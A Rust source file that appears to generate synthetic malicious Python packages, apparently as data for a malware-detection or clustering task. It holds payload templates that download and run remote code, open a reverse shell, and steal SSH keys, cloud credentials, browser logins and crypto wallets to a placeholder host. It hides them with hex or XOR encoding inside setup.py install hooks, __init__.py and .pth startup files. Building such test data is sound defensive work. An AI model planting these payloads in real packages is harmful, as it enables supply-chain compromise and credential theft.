//! Attack code, made up: a kit is what one maker writes, put together from pieces in a way of its
//! own; each use of it has other names and texts, and may be changed.

use crate::tasks::names::generate::Random;

/// What an attack does. `H` stands for an address of its maker, `$a` to `$f` for names, `%` for a text,
/// `#` for a number.
const CORES: [&str; 12] = [
    "import urllib.request, subprocess, tempfile, os\n$a = os.path.join(tempfile.gettempdir(), %)\nurllib.request.urlretrieve('H/bin', $a)\nsubprocess.Popen([$a], shell=True)",
    "import requests\n$a = requests.get('H/stage', timeout=#).text\nexec($a)",
    "import os, requests, glob\nfor $a in glob.glob(os.path.expanduser('~/.ssh/*')):\n    with open($a, 'rb') as $b:\n        requests.post('H/up', files={%: $b.read()})",
    "import os, json, urllib.request\n$a = json.dumps(dict(os.environ)).encode()\n$b = urllib.request.Request('H/env', data=$a, headers={%: %})\nurllib.request.urlopen($b)",
    "import socket, subprocess, os\n$a = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n$a.connect(('D', #))\nos.dup2($a.fileno(), 0)\nos.dup2($a.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])",
    "import os, shutil, requests\n$a = os.path.join(os.environ['APPDATA'], 'Exodus', 'exodus.wallet')\n$b = shutil.make_archive(%, 'zip', $a)\nrequests.post('H/w', files={'f': open($b, 'rb')})",
    "import subprocess\n$a = 'curl -s H/i.sh | bash'\nsubprocess.run($a, shell=True, check=False)",
    "import os, sqlite3, requests\n$a = os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data'\n$b = sqlite3.connect($a)\n$c = $b.execute('select origin_url, username_value, password_value from logins').fetchall()\nrequests.post('H/l', json={%: str($c)})",
    "import http.client, base64\n$a = http.client.HTTPSConnection('D')\n$a.request('GET', '/' + %)\n$b = base64.b64decode($a.getresponse().read())\nexec(compile($b, %, 'exec'))",
    "import os, urllib.request\n$a = urllib.request.urlopen('H/s').read()\nwith open(os.path.expanduser('~/.config/' + %), 'wb') as $b:\n    $b.write($a)\nos.system('python3 ' + os.path.expanduser('~/.config/' + %))",
    "import os, requests\n$a = open(os.path.expanduser('~/.aws/credentials')).read()\n$b = open(os.path.expanduser('~/.netrc')).read()\nrequests.post('H/c', data={%: $a, %: $b})",
    "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -Command \"iwr H/a.ps1 | iex\"', shell=True, creationflags=#)",
];

/// What goes with it.
const EXTRAS: [&str; 14] = [
    "import platform\n$d = platform.system() + platform.node()",
    "import time\ntime.sleep(#)",
    "import os\nif os.path.exists(%):\n    raise SystemExit(#)",
    "import getpass, socket\n$d = (getpass.getuser(), socket.gethostname())",
    "$e = [$f ^ # for $f in range(#)]",
    "import threading\n$e = threading.Thread(target=print, args=(%,))\n$e.start()",
    "try:\n    import ctypes\n    $d = ctypes.windll.kernel32.IsDebuggerPresent()\nexcept Exception:\n    $d = #",
    "import winreg\n$d = winreg.OpenKey(winreg.HKEY_CURRENT_USER, %, 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx($d, %, 0, winreg.REG_SZ, %)",
    "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as $d:\n    $d.write(%)",
    "import uuid\n$d = hex(uuid.getnode())",
    "import logging\nlogging.disable(logging.CRITICAL)",
    "import sys\nsys.stderr = open('/dev/null', 'w')",
    "$d = {%: #, %: #}\nfor $e in $d:\n    $d[$e] += #",
    "import locale\n$d = locale.getdefaultlocale()\nif $d and $d[0] == %:\n    pass",
];

/// What a maker adds so that two copies differ.
const JUNK: [&str; 8] = [
    "$e = #",
    "$d = % + str(#)",
    "for $e in range(#):\n    pass",
    "$e = [%, %]\n$e.reverse()",
    "if # > #:\n    print(%)",
    "def $f($d):\n    return $d * #",
    "$d = len(%) % #",
    "assert # or %",
];

/// Where the code runs from.
#[derive(Debug, Clone, Copy)]
enum Frame {
    SetupClass,
    SetupTop,
    InitTop,
    InitFunction,
    Startup,
}

/// How the code is hidden.
#[derive(Debug, Clone, Copy)]
enum Cover {
    Plain,
    Hex,
    Reversed,
    Numbers,
}

/// What one maker writes.
pub(crate) struct Kit {
    pieces: Vec<&'static str>,
    frame: Frame,
    cover: Cover,
    decorated: bool,
}

/// One use of a kit.
pub(crate) struct Use<'a> {
    /// `https://x.example.invalid`
    pub(crate) address: &'a str,
    /// Whether the code is changed.
    pub(crate) mutated: bool,
    /// Whether all uses hide the very same code.
    pub(crate) same_inside: bool,
}

impl Kit {
    /// A maker's way of writing.
    pub(crate) fn new(random: &mut Random) -> Self {
        let core = CORES[random.below(CORES.len())];
        let mut extras: Vec<&'static str> = EXTRAS.to_vec();
        let mut pieces = Vec::new();
        for _ in 0..2 + random.below(4) {
            pieces.push(extras.remove(random.below(extras.len())));
        }
        pieces.insert(random.below(pieces.len() + 1), core);
        if random.chance(40) {
            pieces.insert(random.below(pieces.len() + 1), CORES[random.below(CORES.len())]);
        }
        let frames =
            [Frame::SetupClass, Frame::SetupTop, Frame::InitTop, Frame::InitFunction, Frame::Startup];
        let covers = [Cover::Plain, Cover::Plain, Cover::Hex, Cover::Reversed, Cover::Numbers];
        Self {
            pieces,
            frame: frames[random.below(frames.len())],
            cover: covers[random.below(covers.len())],
            decorated: random.chance(50),
        }
    }

    /// The files of one use: path within the package, text.
    pub(crate) fn files(&self, package: &str, usage: &Use<'_>, random: &mut Random) -> Vec<(String, String)> {
        let body = self.body(usage, random);
        let body = match self.cover {
            Cover::Plain => body,
            cover => covered(cover, &body, random),
        };
        let init = format!("{package}/__init__.py");
        let plain = format!("from setuptools import setup\nsetup(name={package:?}, version='1.0')\n");
        match self.frame {
            Frame::SetupTop => {
                vec![("setup.py".into(), format!("{body}\n{plain}")), (init, greeting(random))]
            }
            Frame::SetupClass => {
                let class = name(random);
                let text = format!(
                    "from setuptools import setup\nfrom setuptools.command.install import install\n\
                     class {class}(install):\n    def run(self):\n        install.run(self)\n{}\n\
                     setup(name={package:?}, version='1.0', cmdclass={{'install': {class}}})\n",
                    indented(&body, 8)
                );
                vec![("setup.py".into(), text), (init, greeting(random))]
            }
            Frame::InitTop => vec![("setup.py".into(), plain), (init, format!("{body}\n"))],
            Frame::InitFunction => {
                let function = name(random);
                let wrapped = if self.decorated {
                    format!(
                        "def {function}():\n    try:\n{}\n    except Exception:\n        pass\n\n{function}()\n",
                        indented(&body, 8)
                    )
                } else {
                    format!("def {function}():\n{}\n\n{function}()\n", indented(&body, 4))
                };
                vec![("setup.py".into(), plain), (init, wrapped)]
            }
            Frame::Startup => {
                let module = format!("{}_hook", word(random));
                vec![
                    (format!("{package}.pth"), format!("import {module}\n")),
                    (format!("{module}.py"), format!("{body}\n")),
                    ("setup.py".into(), plain),
                    (init, greeting(random)),
                ]
            }
        }
    }

    fn body(&self, usage: &Use<'_>, random: &mut Random) -> String {
        let mut pieces: Vec<String> = self.pieces.iter().map(|piece| (*piece).to_owned()).collect();
        if usage.mutated {
            for _ in 0..2 + random.below(4) {
                let junk = JUNK[random.below(JUNK.len())].to_owned();
                pieces.insert(random.below(pieces.len() + 1), junk);
            }
            let is_core = |piece: &str| CORES.contains(&piece);
            if random.chance(40) {
                let extras: Vec<usize> = (0..pieces.len()).filter(|at| !is_core(&pieces[*at])).collect();
                if let Some(at) = random.pick(&extras) {
                    pieces.remove(*at);
                }
            }
            if random.chance(40) {
                let (a, b) = (random.below(pieces.len()), random.below(pieces.len()));
                pieces.swap(a, b);
            }
        }
        // Inside one cover all uses of a payload have the same names and texts.
        let mut same = Random::new(self.pieces.len() as u64 * 77 + self.pieces[0].len() as u64);
        let filled = if usage.same_inside { &mut same } else { random };
        pieces.iter().map(|piece| fill(piece, usage.address, filled)).collect::<Vec<_>>().join("\n")
    }
}

/// Fills a piece in.
fn fill(piece: &str, address: &str, random: &mut Random) -> String {
    let names: Vec<String> = (0..6).map(|_| name(random)).collect();
    let host = address.split("://").nth(1).unwrap_or(address);
    let mut out = String::new();
    let mut rest = piece.chars().peekable();
    while let Some(c) = rest.next() {
        match c {
            '$' => {
                let at = rest.next().map_or(0, |letter| letter as usize - 'a' as usize);
                out.push_str(&names[at.min(5)]);
            }
            '%' => out.push_str(&format!("'{}{}'", word(random), random.below(1000))),
            '#' => out.push_str(&(1 + random.below(9000)).to_string()),
            'H' if rest.peek() == Some(&'/') => out.push_str(address),
            'D' if out.ends_with('\'') && rest.peek() == Some(&'\'') => out.push_str(host),
            other => out.push(other),
        }
    }
    out
}

fn covered(cover: Cover, body: &str, random: &mut Random) -> String {
    let hex = |text: &str| text.bytes().map(|byte| format!("{byte:02x}")).collect::<String>();
    let (held, opened) = (name(random), name(random));
    match cover {
        Cover::Plain => body.to_owned(),
        Cover::Hex => {
            format!("{held} = '{}'\n{opened} = bytes.fromhex({held}).decode()\nexec({opened})", hex(body))
        }
        Cover::Reversed => format!(
            "{held} = '{}'[::-1]\nimport binascii\nexec(binascii.unhexlify({held}))",
            hex(body).chars().rev().collect::<String>()
        ),
        Cover::Numbers => {
            let key = 1 + random.below(90) as u8;
            let numbers: Vec<String> = body.bytes().map(|byte| (byte ^ key).to_string()).collect();
            format!(
                "{held} = [{}]\n{opened} = ''.join(chr(x ^ {key}) for x in {held})\nexec({opened})",
                numbers.join(", ")
            )
        }
    }
}

fn indented(text: &str, by: usize) -> String {
    text.lines().map(|line| format!("{}{line}", " ".repeat(by))).collect::<Vec<_>>().join("\n")
}

fn greeting(random: &mut Random) -> String {
    format!("__version__ = '{}.{}'\n", random.below(9), random.below(30))
}

/// A word that somebody may use.
pub(crate) fn word(random: &mut Random) -> String {
    let (hard, soft) = ("bcdfghklmnprstvw", "aeiou");
    let pick = |from: &str, random: &mut Random| from.chars().nth(random.below(from.len())).unwrap_or('x');
    (0..2 + random.below(2)).flat_map(|_| [pick(hard, random), pick(soft, random)]).collect()
}

fn name(random: &mut Random) -> String {
    format!("{}_{}", word(random), random.below(100))
}
